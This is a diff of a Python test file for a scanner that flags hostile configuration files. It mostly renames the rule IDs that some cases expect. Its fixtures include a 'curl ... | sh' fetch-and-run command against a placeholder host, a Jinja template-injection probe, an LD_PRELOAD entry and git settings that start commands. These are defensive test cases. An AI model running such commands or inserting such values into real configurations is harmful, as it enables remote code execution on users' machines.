@@ -65,7 +65,7 @@ ACTING: list[tuple[str, Any, str, Verdict]] = [
     ("command", {"services": {"x": {"command": "curl http://x.invalid/a | sh"}}},
      "config.command", Verdict.MALICIOUS),
     ("opened", {"postCreateCommand": "make"}, "config.starts-by-itself", Verdict.SUSPICIOUS),
-    ("template", {"chat_template": "{{ x.__class__.__mro__ }}"}, "template", Verdict.MALICIOUS),
+    ("template", {"chat_template": "{{ x.__class__.__mro__ }}"}, "jinja", Verdict.MALICIOUS),
 ]  # fmt: skip
 
 HONEST: list[tuple[str, Any]] = [
@@ -115,9 +115,7 @@ def test_keys_loaders_act_upon_are_found_in_any_notation(
 
 @pytest.mark.parametrize(("name", "document"), HONEST)
 @pytest.mark.parametrize("notation", ["json", "yaml"])
-def test_what_libraries_and_people_write_is_clean(
-    notation: str, name: str, document: Any
-) -> None:
+def test_what_libraries_and_people_write_is_clean(notation: str, name: str, document: Any) -> None:
     text = json.dumps(document, indent=1) if notation == "json" else yaml.safe_dump(document)
     judged = judge(text.encode(), f"{name.rpartition('.')[0]}.{notation}")
     assert judged.verdict is Verdict.CLEAN, judged
@@ -234,7 +232,7 @@ def test_the_loader_mlflow_imports_is_judged() -> None:
 @pytest.mark.parametrize(
     ("name", "text", "rule"),
     [
-        (".env", "LD_PRELOAD=/tmp/x.so\n", "ini.preload"),
+        (".env", "LD_PRELOAD=/tmp/x.so\n", "config.preload"),
         (".gitconfig", "[core]\n  fsmonitor = touch x\n", "ini.starts-command"),
         (".gitconfig", "[alias]\n  st = !touch x\n", "ini.starts-command"),
         ("setup.cfg", "[x]\nrun = curl http://x.invalid/a | sh\n", "ini.hostile-command"),
